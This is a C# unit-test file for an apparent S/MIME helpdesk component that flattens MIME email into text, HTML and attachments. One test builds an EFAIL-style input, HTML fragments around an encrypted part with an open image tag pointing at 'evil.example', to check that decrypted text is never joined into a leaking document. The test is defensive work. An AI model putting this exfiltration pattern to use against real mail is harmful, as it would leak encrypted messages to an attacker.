using SmimeHelpdesk.Inbound;

namespace SmimeHelpdesk.Tests.Inbound;

public class ContentFlattenerTests
{
    private const string Html = "Content-Type: text/html\n\n<p>rich</p>";
    private const string Png = "Content-Type: image/png; name=a.png\nContent-ID: <pic@x>\nContent-Transfer-Encoding: base64\n\nAAEC\n";
    private const string Enveloped = "Content-Type: application/pkcs7-mime; smime-type=enveloped-data\nContent-Transfer-Encoding: base64\n\nMIAG\n";

    [Fact]
    public void Flatten_ForwardedMessage_IsNamedBySubjectWithoutAPath() =>
        ContentFlattener.Flatten(Mail.Parse("Content-Type: multipart/mixed; boundary=b\n\n--b\nContent-Type: message/rfc822\n\nSubject: a/b\\c\n\nx\n--b--\n"), SmimeLimits.Default)
            .Attachments.Should().ContainSingle().Which.FileName.Should().Be("a_b_c.eml");

    [Fact]
    public void Flatten_PlainText_IsTheText()
    {
        MessageContent content = Flatten("Content-Type: text/plain\n\nHello,\n\n  world\n\n");

        content.TextBody.Should().Be("Hello,\n\n  world");
        content.HtmlBody.Should().BeNull();
        content.Attachments.Should().BeEmpty();
    }

    [Fact]
    public void Flatten_NoMimeAtAll_IsTheText() => Flatten("Hello, world!").TextBody.Should().Be("Hello, world!");

    [Fact]
    public void Flatten_Alternative_TakesBoth()
    {
        MessageContent content = Flatten(Multipart("alternative", "Content-Type: text/plain\n\nplain\n", Html));

        content.TextBody.Should().Be("plain");
        content.HtmlBody.Should().Be("<p>rich</p>");
        content.Attachments.Should().BeEmpty();
    }

    [Theory]
    [InlineData("")]
    [InlineData(" \n\n")]
    public void Flatten_AlternativeWithEmptyText_RendersTheHtml(string text) =>
        Flatten(Multipart("alternative", "Content-Type: text/plain\n\n" + text, Html)).TextBody.Should().Be("rich");

    [Fact]
    public void Flatten_AlternativeWithSeveralOfAKind_LosesNothing()
    {
        MessageContent content = Flatten(Multipart("alternative", "Content-Type: text/plain\n\none\n", "Content-Type: text/plain\n\ntwo\n", "Content-Type: text/html\n\n<b>poor</b>\n", "Content-Type: text/calendar; method=REQUEST\n\nBEGIN:VCALENDAR\n", Html));

        content.TextBody.Should().Be("one");
        content.HtmlBody.Should().Be("<p>rich</p>");
        content.Attachments.Select(a => a.ContentType).Should().Equal("text/plain", "text/html", "text/calendar");
        content.Attachments[2].FileName.Should().EndWith(".ics");
    }

    [Fact]
    public void Flatten_AlternativeWithMixedHtml_KeepsTextOnce()
    {
        MessageContent content = Flatten(Multipart("alternative", "Content-Type: text/plain\n\nplain\n", Multipart("mixed", Html, Png).Replace("=b\n", "=c\n", StringComparison.Ordinal).Replace("--b", "--c", StringComparison.Ordinal)));

        content.TextBody.Should().Be("plain");
        content.HtmlBody.Should().Be("<p>rich</p>");
        content.Attachments.Should().ContainSingle();
    }

    [Fact]
    public void Flatten_HtmlOnly_IsRenderedAsText()
    {
        MessageContent content = Flatten(Html);

        content.HtmlBody.Should().Be("<p>rich</p>");
        content.TextBody.Should().Be("rich");
    }

    [Fact]
    public void Flatten_MixedTexts_AreJoinedByBlankLines() =>
        Flatten(Multipart("mixed", "Content-Type: text/plain\n\none\n", "\ntwo\n", "Content-Type: text/plain\nContent-Disposition: inline\n\nthree")).TextBody.Should().Be("one\n\ntwo\n\nthree");

    [Fact]
    public void Flatten_SeveralHtmlParts_AreNeverOneDocument()
    {
        // The parts around an encrypted one that would carry its text to a server, if they were put together.
        MessageContent content = Flatten(Multipart("mixed", "Content-Type: text/html\n\n<img src=\"http://evil.example/", Enveloped, "Content-Type: text/html\n\n\">\n"));

        content.HtmlBody.Should().Be("<img src=\"http://evil.example/");
        content.Attachments.Select(a => a.ContentType).Should().Equal("application/pkcs7-mime", "text/html");
    }

    [Fact]
    public void Flatten_ForeignEncryptedPart_IsListedAndNeverOpened()
    {
        MessageContent content = Flatten(Multipart("mixed", "Content-Type: text/plain\n\nFirst\n", Enveloped));

        content.TextBody.Should().Be("First");
        content.Attachments.Should().ContainSingle().Which.FileName.Should().Be("smime.p7m");
    }

    [Theory]
    [InlineData("Content-Type: application/pkcs7-mime; smime-type=enveloped-data; name=smime.p7m\n\nMIAG")]
    [InlineData("Content-Type: application/octet-stream; name=smime.p7m\n\nMIAG")]
    public void Flatten_LayerThatStayedClosed_HasNoContent(string payload) => Flatten(payload).Should().BeEquivalentTo(new MessageContent());

    [Fact]
    public void Flatten_NestedSigned_ShowsItsTextWithoutItsSignature()
    {
        string signed = "Content-Type: multipart/signed; protocol=\"application/pkcs7-signature\"; boundary=s\n\n--s\nContent-Type: text/plain\n\nsigned\n--s\nContent-Type: application/pkcs7-signature; name=smime.p7s\n\nMIAG\n--s--\n";

        MessageContent content = Flatten(Multipart("mixed", signed, "Content-Type: text/plain\n\nfooter\n"));

        content.TextBody.Should().Be("signed\n\nfooter");
        content.Attachments.Should().BeEmpty();
    }

    [Fact]
    public void Flatten_SignedWithThirdPart_ShowsItToo()
    {
        MessageContent content = Flatten("Content-Type: multipart/signed; protocol=\"application/pkcs7-signature\"; boundary=s\n\n--s\n\none\n--s\nContent-Type: application/pkcs7-signature\n\nMIAG\n--s\n\nthree\n--s--\n");

        content.TextBody.Should().Be("one\n\nthree");
    }

    [Fact]
    public void Flatten_OpenPgp_IsListed()
    {
        MessageContent encrypted = Flatten("Content-Type: multipart/encrypted; protocol=\"application/pgp-encrypted\"; boundary=b\n\n--b\nContent-Type: application/pgp-encrypted\n\nVersion: 1\n--b\nContent-Type: application/octet-stream; name=encrypted.asc\n\n-----BEGIN PGP MESSAGE-----\n--b--\n");
        MessageContent signed = Flatten("Content-Type: multipart/signed; protocol=\"application/pgp-signature\"; boundary=b\n\n--b\n\ntext\n--b\nContent-Type: application/pgp-signature; name=signature.asc\n\n-----BEGIN PGP SIGNATURE-----\n--b--\n");

        encrypted.TextBody.Should().BeEmpty();
        encrypted.Attachments.Should().HaveCount(2);
        signed.TextBody.Should().Be("text");
        signed.Attachments.Should().ContainSingle().Which.FileName.Should().Be("signature.asc");
    }

    [Fact]
    public void Flatten_Related_ShownImagesAreInlineAndOthersListed()
    {
        MessageContent content = Flatten(Multipart(
            "related; start=\"<root@x>\"",
            "Content-Type: text/plain; name=data.txt\n\nnot the body\n",
            "Content-Type: text/html\nContent-ID: <root@x>\n\n<img src=\"cid:pic%40x\">",
            Png,
            Png.Replace("pic@x", "hidden@x", StringComparison.Ordinal),
            "Content-Type: application/x-msdownload; name=a.exe\nContent-ID: <pic@x>\n\nMZ"));

        content.HtmlBody.Should().Contain("cid:");
        content.TextBody.Should().BeEmpty();
        content.Attachments.Select(a => (a.FileName, a.IsInline)).Should().Equal(("data.txt", false), ("a.png", true), ("a (2).png", false), ("a.exe", false));
        content.Attachments[1].ContentId.Should().Be("pic@x");
    }

    [Fact]
    public void Flatten_ForwardedMessage_IsOneEmlAttachment()
    {
        MessageContent content = Flatten(Multipart("mixed", "\nsee below\n", "Content-Type: message/rfc822\n\nSubject: =?utf-8?q?Re:_a/b=0D=0A?= c\nContent-Type: text/plain\n\nsecret\n"));

        content.TextBody.Should().Be("see below");
        MessageAttachment attachment = content.Attachments.Should().ContainSingle().Subject;
        attachment.FileName.Should().Be("Re_ a_b c.eml");
        Read(attachment).Should().StartWith("Subject:").And.Contain("secret");
    }

    [Theory]
    [InlineData("Content-Type: text/plain\nContent-Disposition: attachment; filename=a.txt\n\nx")]
    [InlineData("Content-Type: text/plain\nContent-Disposition: whatever\n\nx")]
    [InlineData("Content-Type: text/html; name=a.html\nContent-Disposition: attachment\n\nx")]
    [InlineData("Content-Type: text/plain; name=a.txt\n\nx")]
    [InlineData("Content-Type: text/x-vcard\n\nBEGIN:VCARD")]
    [InlineData("Content-Type: text/csv\n\na,b")]
    [InlineData("Content-Type: application/pdf\n\n%PDF")]
    [InlineData("Content-Type: message/delivery-status\n\nReporting-MTA: dns; x")]
    public void Flatten_FileBesideText_IsAnAttachment(string part)
    {
        MessageContent content = Flatten(Multipart("mixed", "\nletter\n", part));

        content.TextBody.Should().Be("letter");
        content.HtmlBody.Should().BeNull();
        content.Attachments.Should().ContainSingle();
    }

    [Fact]
    public void Flatten_NamedTextAlone_IsTheLetter() => Flatten("Content-Type: text/plain; name=body.txt\n\nx").TextBody.Should().Be("x");

    [Fact]
    public void Flatten_PdfAtTheRoot_IsAnAttachment()
    {
        MessageContent content = Flatten("Content-Type: application/pdf\nContent-Transfer-Encoding: base64\n\nJVBERg==\n");

        content.TextBody.Should().BeEmpty();
        MessageAttachment attachment = content.Attachments.Should().ContainSingle().Subject;
        (attachment.FileName, attachment.Size, attachment.ContentType).Should().Be(("attachment-1.pdf", 4L, "application/pdf"));
        Read(attachment).Should().Be("%PDF");
    }

    [Fact]
    public void Flatten_OtherTextAlone_StandsInForTheBody()
    {
        MessageContent content = Flatten("Content-Type: text/markdown\n\n# Title");

        content.TextBody.Should().Be("# Title");
        content.Attachments.Should().ContainSingle();
    }

    [Theory]
    [InlineData("Content-Type: multipart/mixed\n\nno boundary\n", "no boundary")]
    [InlineData("Content-Type: multipart/mixed; boundary=b\n\n--c\n\nwrong boundary\n--c--\n", "--c\n\nwrong boundary\n--c--")]
    [InlineData("Content-Type: multipart/mixed; boundary=b\n\n--b--\n", "")]
    public void Flatten_MultipartWithoutParts_ShowsWhatItSays(string mail, string text) => Flatten(mail).TextBody.Should().Be(text);

    [Fact]
    public void Flatten_HugeText_IsListedInstead()
    {
        MessageContent content = Flatten("Content-Type: text/plain\n\n" + new string('x', 5 << 20));

        content.TextBody.Should().BeEmpty();
        content.Attachments.Should().ContainSingle().Which.Size.Should().Be(5 << 20);
    }

    [Fact]
    public void OpenRead_Twice_GivesFreshStreams()
    {
        MessageAttachment attachment = Flatten("Content-Type: a/b\nContent-Transfer-Encoding: quoted-printable\n\n=41=42").Attachments[0];

        Read(attachment).Should().Be("AB");
        Read(attachment).Should().Be("AB");
    }

    private static MessageContent Flatten(string mail) => ContentFlattener.Flatten(Mail.Parse(mail), SmimeLimits.Default);

    private static string Multipart(string type, params string[] parts) =>
        $"Content-Type: multipart/{type}; boundary=b\n\n" + string.Concat(parts.Select(part => "--b\n" + part + "\n")) + "--b--\n";

    private static string Read(MessageAttachment attachment)
    {
        using var reader = new StreamReader(attachment.OpenRead());
        return reader.ReadToEnd();
    }
}
